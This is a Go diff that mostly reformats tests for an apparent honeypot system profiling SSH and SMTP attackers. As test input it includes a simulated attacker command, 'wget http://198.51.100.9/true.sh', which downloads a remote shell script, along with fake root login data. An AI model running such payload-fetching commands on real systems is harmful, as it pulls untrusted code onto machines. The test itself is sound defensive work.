@@ -187,8 +187,10 @@ func rendered(t *testing.T, r *profile.Renderer, field string, items []event.Evi
 		events := make([]event.Event, len(chunk))
 		var pointers []*event.Event
 		for i := range chunk {
-			events[i] = event.Event{Time: event.FromTime(at), Addr: netip.MustParseAddr("203.0.113.7"), Decky: "decky-1", Service: "ssh", Type: "x",
-				Kind: event.Interaction, Proof: event.ByConnection, Evidence: chunk[i : i+1 : i+1]}
+			events[i] = event.Event{
+				Time: event.FromTime(at), Addr: netip.MustParseAddr("203.0.113.7"), Decky: "decky-1", Service: "ssh", Type: "x",
+				Kind: event.Interaction, Proof: event.ByConnection, Evidence: chunk[i : i+1 : i+1],
+			}
 			events[i].Time += event.Time(s.Events+int64(i)) * 1e6
 			r.Annotate(a, &events[i])
 			pointers = append(pointers, &events[i])
@@ -347,12 +349,16 @@ func TestEstimatesClaimNoMoreThanWasSeen(t *testing.T) {
 			sum := sha256.Sum256(fmt.Appendf(nil, "g%d", i))
 			return "ssh\x00x\x00plaintext\x00" + string(sum[:])
 		}, func(i int) event.Evidence { return password("x", fmt.Sprint("g", i), event.Failure) }, "credential_count"},
-		"mail domains": {func(i int) string { return fmt.Sprint("g", i, ".example") },
+		"mail domains": {
+			func(i int) string { return fmt.Sprint("g", i, ".example") },
 			func(i int) event.Evidence {
 				return event.Evidence{Kind: event.Recipient, A: fmt.Sprint("g", i, ".example")}
-			}, "smtp_domain_count"},
-		"sessions": {func(i int) string { return fmt.Sprint("g", i) },
-			func(i int) event.Evidence { return event.Evidence{Kind: event.Session, A: fmt.Sprint("g", i)} }, "session_count"},
+			}, "smtp_domain_count",
+		},
+		"sessions": {
+			func(i int) string { return fmt.Sprint("g", i) },
+			func(i int) event.Evidence { return event.Evidence{Kind: event.Session, A: fmt.Sprint("g", i)} }, "session_count",
+		},
 	} {
 		t.Run(name, func(t *testing.T) {
 			all := make([]ground, tries)
@@ -441,7 +447,8 @@ func TestAFloodOfShellCommandsPushesOutNothingThatMatters(t *testing.T) {
 			typed(flood, "wget http://198.51.100.9/true.sh")
 		}
 		fold(event.Event{Time: first - 2e6, Type: "login", Proof: event.ByConnection, Evidence: []event.Evidence{
-			{Kind: event.Login, A: "root", B: "plaintext", C: "x", Outcome: event.Success}}})
+			{Kind: event.Login, A: "root", B: "plaintext", C: "x", Outcome: event.Success},
+		}})
 		if n := len(s.Append(nil)); n > s.Size() || s.Size() > state.MaxAttacker {
 			t.Errorf("%s: a state of %d bytes, said to be %d of at most %d", where, n, s.Size(), state.MaxAttacker)
 		}
